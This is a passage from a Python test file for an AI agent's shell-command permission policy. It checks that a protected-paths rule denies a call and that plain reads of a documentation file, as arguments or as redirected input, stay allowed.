    assert (decision.decision, decision.rule) == ("deny", "protected-paths"), decision


@pytest.mark.parametrize("command", ["cat < docs.md", "cat docs.md", "head -n 1 docs.md - < docs.md"])
async def test_a_plain_input_stays_allowed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str) -> None:
    """Pin: the caller's rule still covers reads of plain files, as words or as input."""
    ws, _ = _credential_workspace(tmp_path, monkeypatch)
    async with ToolRuntime(ws, policy=_READS_ALLOWED) as tools:
        decision = await tools.decide(ToolCall("1", "run_shell_command", {"command": command}))
    assert decision.decision == "allow", decision
